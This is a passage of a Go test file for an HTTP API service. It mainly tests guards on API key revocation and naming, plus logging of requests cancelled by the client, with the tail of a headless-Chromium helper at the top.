	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--user-data-dir="+t.TempDir(),
		"--enable-logging=stderr", "--v=0", "--dump-dom", url)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, errb.String())
	}
	return out.String(), errb.String()
}

// TestKeyGuards: the last live admin key cannot be revoked, names are unique
// among live keys, and a client that hangs up is logged at info, not as an error.
func TestKeyGuards(t *testing.T) {
	ts, logs := loggingServer(t)
	var keys keyList
	ts.must(http.StatusOK, "GET", "/v1/keys", nil, &keys)
	if len(keys.Keys) != 1 {
		t.Fatalf("keys %+v", keys.Keys)
	}
	boot := keys.Keys[0].ID
	status, b := ts.do("DELETE", "/v1/keys/"+boot, ts.admin, nil)
	if e := errorOf(t, b); status != 409 || !strings.Contains(e.Message, "last live admin key") {
		t.Fatalf("revoking the last admin key: %d %+v, want 409", status, e)
	}
	ts.must(http.StatusOK, "GET", "/v1/keys", nil, nil) // the key still works

	var second createdKey
	ts.must(http.StatusCreated, "POST", "/v1/keys", map[string]any{"name": "ops", "role": "admin"}, &second)
	status, b = ts.do("POST", "/v1/keys", ts.admin, map[string]any{"name": "ops", "role": "viewer"})
	if e := errorOf(t, b); status != 409 || !strings.HasPrefix(e.Message, "name:") {
		t.Errorf("a second key named ops: %d %+v, want 409 naming name", status, e)
	}
	ts.must(http.StatusNoContent, "DELETE", "/v1/keys/"+boot, nil, nil) // another admin is left
	status, b = ts.do("DELETE", "/v1/keys/"+second.ID, second.Secret, nil)
	if status != 409 {
		t.Errorf("the remaining admin revokes itself: %d %s, want 409", status, b)
	}
	ts.mustAs(second.Secret, http.StatusOK, "GET", "/v1/keys", nil, &keys)
	live := 0
	for _, k := range keys.Keys {
		if k.RevokedAt == nil {
			live++
			if k.ID != second.ID {
				t.Errorf("live key %+v, want only %s", k, second.ID)
			}
		}
	}
	if live != 1 || len(keys.Keys) != 2 {
		t.Errorf("keys %+v, want the revoked bootstrap key and one live admin", keys.Keys)
	}
	// The name of a revoked key may be used again.
	ts.mustAs(second.Secret, http.StatusCreated, "POST", "/v1/keys", map[string]any{"name": "bootstrap-admin", "role": "viewer"}, nil)

	// A client that hangs up: its request's context is canceled while the
	// handlers query the database.
	for _, path := range []string{"/readyz", "/v1/experiments", "/v1/keys"} {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		req := httptest.NewRequest("GET", path, nil).WithContext(ctx)
		req.Header.Set("Authorization", "Bearer "+second.Secret)
		rec := httptest.NewRecorder()
		ts.srv.Handler().ServeHTTP(rec, req)
	}
	var gone int
	for _, line := range strings.Split(strings.TrimSpace(logs.String()), "\n") {
		var rec struct {
			Level  string `json:"level"`
			Msg    string `json:"msg"`
			Path   string `json:"path"`
			Status int    `json:"status"`
		}
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		if rec.Level == "ERROR" {
			t.Errorf("logged as an error: %s", line)
		}
		if rec.Msg == "http request" && rec.Status == 499 {
			gone++
		}
	}
	if gone != 3 {
		t.Errorf("%d requests logged with status 499, want 3:\n%s", gone, logs.String())
	}
}
